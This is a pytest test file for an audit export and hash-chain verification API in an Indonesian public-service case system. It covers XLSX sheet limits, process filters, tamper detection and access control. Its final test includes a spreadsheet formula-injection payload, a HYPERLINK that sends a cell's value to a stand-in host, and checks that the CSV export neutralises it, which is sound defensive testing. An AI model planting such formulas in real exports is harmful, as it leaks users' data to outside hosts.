"""The auditor's XLSX export, the process filter, and the chain check over HTTP (GET /audit/verify).

On PostgreSQL too: the export as read from the database (its rows in both formats, a period after the last event, a
process), the chain check over the rows read and narrowed by process and period, and the checks it records read back
newest first. The rest is Python over those rows (the workbook's sheets and limits, a formula's escape, a break's
report, who may ask, the contract): their PostgreSQL twins ran the same Python again."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from api.extensions import db
from engine import complaints
from engine.models import Case, CaseEvent, ChainCheck
from tests.conftest import REPORTER_NAME, REPORTER_NIK, complaint_payload, sqlite_only

API = "/api/v1"
# The readable exports' fixed columns (issue 11 point 11); one ``isian.<field>`` column per field between them.
HEAD = ["instansi", "tiket", "urutan", "waktu", "peristiwa", "pelaku", "uraian_peristiwa"]
TAIL = ["hash_sebelumnya", "hash"]
COLUMNS = HEAD + TAIL  # an export with no event has no field column
IDENTITIES = ("Ani Wijaya", "3171234507890001", REPORTER_NAME, REPORTER_NIK)


@pytest.fixture
def two_cases(desk, client):
    """An information request one step in, and a confidential complaint: (request ticket, complaint ticket)."""
    request = desk.submit()
    desk.complete(request["ticket"], "periksa_kelengkapan")
    r = client.post(f"{API}/complaints", json=complaint_payload("rahasia"))
    assert r.status_code == 201, r.json
    return request["ticket"], r.json["ticket"]


def export(client, login, fmt, **query):
    r = client.get(f"{API}/audit/export", query_string={"format": fmt, **query}, headers=login("auditor"))
    assert r.status_code == 200, r.get_data(as_text=True)
    r.get_data()  # buffer the body, then close the response as a WSGI server does (XLSX: its temporary file)
    r.close()
    return r


def csv_rows(client, login, **query) -> list[list[str]]:
    body = export(client, login, "csv", **query).get_data().decode("utf-8-sig")  # opened by a byte order mark
    return list(csv.reader(io.StringIO(body)))


def xlsx_rows(client, login, **query) -> list[list[str]]:
    """The sheet's cells as text, as the CSV has them (seq is a number in the workbook)."""
    r = export(client, login, "xlsx", **query)
    sheet = load_workbook(io.BytesIO(r.get_data()), read_only=True).active
    rows = [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    return rows[1:]  # after the title row that names the agency


def verify(client, login, username="auditor", **query):
    return client.get(f"{API}/audit/verify", query_string=query, headers=login(username))


def tickets(rows: list[list[str]]) -> set[str]:
    return {row[1] for row in rows[1:]}


# --- XLSX -----------------------------------------------------------------------------------------


def test_xlsx_export_has_the_csv_rows_and_a_frozen_header(two_cases, client, login):
    r = export(client, login, "xlsx")
    assert r.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert r.headers["Content-Disposition"] == "attachment; filename=kawal-audit.xlsx"
    body = r.get_data()
    assert r.headers["Content-Length"] == str(len(body))
    workbook = load_workbook(io.BytesIO(body))
    assert workbook.sheetnames == ["audit"]
    assert workbook.active.freeze_panes == "A3"

    rows = xlsx_rows(client, login)
    assert rows[0][: len(HEAD)] == HEAD
    assert rows[0][-2:] == TAIL
    assert all(h.startswith("isian.") for h in rows[0][len(HEAD) : -2])  # one column per field, no JSON column
    assert rows == csv_rows(client, login)
    assert tickets(rows) == set(two_cases)
    assert len(rows) >= 6


@sqlite_only
def test_an_export_longer_than_a_sheet_goes_on_in_the_next_sheet_and_loses_no_event(
    two_cases, client, login, monkeypatch
):
    """Excel holds 1,048,576 rows a sheet and xlsxwriter drops a cell past them without a word: a province's
    history of more events goes on in "audit 2", "audit 3", each with the title and the header. Here a sheet
    of four rows (the title, the header, two events)."""
    from api import exports

    monkeypatch.setattr(exports, "SHEET_ROWS", 4)
    workbook = load_workbook(io.BytesIO(export(client, login, "xlsx").get_data()), read_only=True)
    expected = csv_rows(client, login)
    header, events = expected[0], expected[1:]
    sheets = -(-len(events) // 2)
    assert workbook.sheetnames == ["audit"] + [f"audit {n}" for n in range(2, sheets + 1)]
    found = []
    for sheet in workbook.worksheets:
        rows = [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
        assert rows[0][0].endswith(": riwayat kasus (ekspor audit Kawal)")
        assert rows[1] == header
        found += rows[2:]
    assert found == events


@sqlite_only
def test_a_workbook_of_more_events_than_it_may_hold_is_refused_on_the_format(two_cases, client, login, monkeypatch):
    from api import exports

    events = len(csv_rows(client, login)) - 1
    monkeypatch.setattr(exports, "XLSX_MAX_EVENTS", events - 1)
    r = client.get(f"{API}/audit/export", query_string={"format": "xlsx"}, headers=login("auditor"))
    assert r.status_code == 422
    told = r.json["errors"]["format"][0]
    assert told.startswith(f"{events} peristiwa terlalu banyak untuk satu buku kerja (paling banyak {events - 1})")
    monkeypatch.setattr(exports, "XLSX_MAX_EVENTS", events)
    assert export(client, login, "xlsx").status_code == 200


@sqlite_only
def test_xlsx_export_keeps_identities_out(two_cases, client, login):
    cells = "\n".join("\t".join(row) for row in xlsx_rows(client, login))
    for identity in IDENTITIES:
        assert identity not in cells


def test_xlsx_export_of_an_empty_period_is_a_header_only(two_cases, client, login):
    future = (datetime.now(UTC) + timedelta(days=1)).isoformat()
    assert xlsx_rows(client, login, **{"from": future}) == [COLUMNS]


# --- the process filter ---------------------------------------------------------------------------


# The process's filter in SQL, on PostgreSQL once: the other process is the same query.
@pytest.mark.parametrize(
    ("db_url", "process", "index"),
    [
        ("sqlite", "permohonan_informasi", 0),
        ("sqlite", "pengaduan", 1),
        pytest.param("postgres", "pengaduan", 1, marks=pytest.mark.postgres),
    ],
    indirect=["db_url"],
)
def test_process_filter_narrows_every_format(two_cases, client, login, process, index):
    expected = {two_cases[index]}
    assert tickets(csv_rows(client, login, process=process)) == expected
    assert tickets(xlsx_rows(client, login, process=process)) == expected
    body = export(client, login, "jsonl", process=process).get_data(as_text=True)
    assert {json.loads(line)["ticket"] for line in body.splitlines()} == expected
    assert xlsx_rows(client, login, process=process) == csv_rows(client, login, process=process)


@sqlite_only
def test_process_filter_with_no_case_of_that_process_exports_nothing(two_cases, client, login):
    assert export(client, login, "jsonl", process="sengketa_informasi").get_data(as_text=True) == ""
    assert csv_rows(client, login, process="keberatan") == [COLUMNS]


@sqlite_only
@pytest.mark.parametrize("path", ["/audit/export", "/audit/verify"])
def test_unknown_process_is_refused(client, login, path):
    r = client.get(f"{API}{path}", query_string={"process": "pajak"}, headers=login("auditor"))
    assert r.status_code == 422
    assert "process" in json.dumps(r.json)


# --- the chain check ------------------------------------------------------------------------------


def test_verify_reports_ok_with_what_it_checked(two_cases, client, login):
    r = verify(client, login)
    assert r.status_code == 200, r.json
    events = len(csv_rows(client, login)) - 1
    assert r.json == {"checked_cases": 2, "checked_events": events, "ok": True, "breaks": [], "breaks_total": 0}


@sqlite_only
def test_a_check_through_the_api_is_recorded_for_the_auditor_console_with_its_office_days(
    two_cases, client, login, app, browser
):
    """The console lists the last checks, its own and the nightly server's; one made over the API is one of
    them, its period in office days as the console's form gives them ([from, to) instants: the last day is the
    one before ``to``)."""
    today = datetime.now(timezone(timedelta(hours=7))).date()  # the office's (Jakarta) day the cases were filed
    first, last = today - timedelta(days=1), today + timedelta(days=1)
    period = {"from": f"{first}T00:00:00+07:00", "to": f"{last + timedelta(days=1)}T00:00:00+07:00"}
    assert verify(client, login, process="pengaduan", **period).status_code == 200
    with app.app_context():
        (row,) = db.session.scalars(select(ChainCheck)).all()
        scope = {"from": first.isoformat(), "to": last.isoformat(), "process": "pengaduan"}
        assert (row.by, row.scope) == ("auditor", scope)
        assert (row.checked_cases, row.breaks_total) == (1, 0)  # the complaint, filed today
    console = browser("auditor").get("/audit").get_data(as_text=True)
    assert f"{first} sampai {last}" in console


def test_the_last_checks_are_read_over_the_api_newest_first_with_what_each_found(two_cases, client, login, browser):
    """A monitoring script asks each morning what the night's check found, as the console shows it."""
    assert verify(client, login, process="pengaduan").status_code == 200
    browser("auditor").get("/audit", query_string={"periksa": "1"}).get_data()  # the console's, of everything
    r = client.get("/api/v1/audit/checks", headers=login("auditor"))
    assert r.status_code == 200, r.json
    newest, older = r.json
    assert (newest["by"], newest["scope"], newest["checked_cases"], newest["breaks_total"]) == ("auditor", {}, 2, 0)
    # the console walks the access chains, and the exemptions the PPID recorded without a request
    assert set(newest["access"]) == {"officer", "unit", "calendar", "fee", "exemption"}
    assert (older["scope"], older["checked_cases"], older["access"]) == ({"process": "pengaduan"}, 1, None)
    assert [c["by"] for c in client.get("/api/v1/audit/checks?limit=1", headers=login("auditor")).json] == ["auditor"]
    assert client.get("/api/v1/audit/checks", headers=login("ppid")).status_code == 403
    assert client.get("/api/v1/audit/checks?limit=0", headers=login("auditor")).status_code == 422


def test_verify_is_narrowed_by_process_and_period(two_cases, client, login):
    complaint_events = len(csv_rows(client, login, process="pengaduan")) - 1
    r = verify(client, login, process="pengaduan")
    clean = {"ok": True, "breaks": [], "breaks_total": 0}
    assert r.json == {"checked_cases": 1, "checked_events": complaint_events, **clean}
    future = (datetime.now(UTC) + timedelta(days=1)).isoformat()
    r = verify(client, login, **{"from": future})
    assert r.json == {"checked_cases": 0, "checked_events": 0, "ok": True, "breaks": [], "breaks_total": 0}


@sqlite_only
def test_verify_names_the_tampered_event(two_cases, client, login, app):
    request_ticket, _ = two_cases
    with app.app_context():
        case_id = db.session.scalar(select(Case.id).where(Case.ticket == request_ticket))
        db.session.execute(
            update(CaseEvent).where(CaseEvent.case_id == case_id, CaseEvent.seq == 2).values(data={"forged": True})
        )
        db.session.commit()

    r = verify(client, login)
    assert r.status_code == 200
    assert r.json["ok"] is False
    assert r.json["checked_cases"] == 2
    assert r.json["breaks"] == [{"ticket": request_ticket, "seq": 2, "reason": "content does not match its hash"}]
    # The complaint's chain is untouched: checked alone, it verifies.
    assert verify(client, login, process="pengaduan").json["ok"] is True
    assert verify(client, login, process="permohonan_informasi").json["breaks"][0]["seq"] == 2


@sqlite_only
def test_verify_names_a_cut_off_history(two_cases, client, login, app):
    request_ticket, _ = two_cases
    with app.app_context():
        case = db.session.scalar(select(Case).where(Case.ticket == request_ticket))
        last = case.event_seq
        db.session.execute(CaseEvent.__table__.delete().where(CaseEvent.case_id == case.id, CaseEvent.seq == last))
        db.session.commit()

    r = verify(client, login)
    assert r.json["ok"] is False
    assert [(b["ticket"], b["seq"]) for b in r.json["breaks"]] == [(request_ticket, last)]
    assert r.json["breaks_total"] == 1


@sqlite_only
def test_verify_lists_the_first_breaks_and_counts_them_all(two_cases, client, login, app, monkeypatch):
    from api.views import audit

    with app.app_context():
        for ticket in two_cases:
            case = db.session.scalar(select(Case).where(Case.ticket == ticket))
            db.session.execute(
                CaseEvent.__table__.delete().where(CaseEvent.case_id == case.id, CaseEvent.seq == case.event_seq)
            )
        db.session.commit()
    monkeypatch.setattr(audit, "BREAKS_LISTED", 1)
    r = verify(client, login)
    assert (r.json["ok"], len(r.json["breaks"]), r.json["breaks_total"]) == (False, 1, 2)


@sqlite_only
def test_verify_refuses_more_events_than_one_answer_checks_before_a_proxy_gives_up(
    two_cases, client, login, monkeypatch
):
    """The answer comes whole at the end: a province's history would leave nginx silent past its 70 s (a 504)
    while the thread hashed on for minutes. Refused at once, naming the ways that do check it."""
    from api.views import audit

    events = verify(client, login).json["checked_events"]
    monkeypatch.setattr(audit, "VERIFY_MAX_EVENTS", events - 1)
    r = client.get(f"{API}/audit/verify", headers=login("auditor"))
    assert r.status_code == 422
    told = r.json["errors"]["from"][0]
    assert told.startswith(
        f"{events} peristiwa melebihi yang diperiksa dalam satu jawaban (paling banyak {events - 1})"
    )
    assert "konsol auditor" in told
    assert "kawal audit verify" in told
    narrowed = client.get(f"{API}/audit/verify", query_string={"process": "pengaduan"}, headers=login("auditor"))
    assert (narrowed.status_code, narrowed.json["checked_cases"]) == (200, 1)
    monkeypatch.setattr(audit, "VERIFY_MAX_EVENTS", events)
    assert verify(client, login).json["ok"] is True


@sqlite_only
@pytest.mark.parametrize("group", ["petugas", "ppid", "unit", "atasan", "admin", "tim", "wbs"])
def test_only_auditors_verify(client, login, group):
    r = verify(client, login, group)
    assert r.status_code == 403
    assert r.json["code"] == "forbidden"


@sqlite_only
def test_verify_needs_a_login(client):
    assert client.get(f"{API}/audit/verify").status_code == 401


@sqlite_only
def test_verify_is_in_the_openapi_contract(client):
    spec = client.get(f"{API}/openapi.json").json
    params = {p["name"] for p in spec["paths"][f"{API}/audit/verify"]["get"]["parameters"]}
    assert params == {"from", "to", "process", "ticket"}
    export_params = {p["name"] for p in spec["paths"][f"{API}/audit/export"]["get"]["parameters"]}
    assert {"process", "ticket", "format"} <= export_params


# --- CSV --------------------------------------------------------------------------------------------


@sqlite_only
def test_a_reporter_s_words_that_begin_like_a_formula_are_text_in_the_csv(client, login, monkeypatch):
    """A spreadsheet opening the auditor's CSV would run "=HYPERLINK(...)" written by a reporter as a formula. A
    complaint filed today records its reporter's words as a commitment (engine.complaints.filing_words); one filed
    before kept them in its filing event, as here."""
    formula = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
    words = "@SUM(1+1) uang pendaftaran diminta"
    monkeypatch.setattr(complaints, "filing_words", lambda _settings, details: dict(details))
    r = client.post(f"{API}/complaints", json=complaint_payload("anonim", pokok_masalah=formula, uraian=words))
    assert r.status_code == 201, r.json
    rows = csv_rows(client, login)
    cells = [cell for row in rows for cell in row]
    assert "'" + formula in cells
    assert "'" + words in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+", "\t"))]
    assert formula in [c for row in xlsx_rows(client, login) for c in row]  # the workbook keeps text cells as written
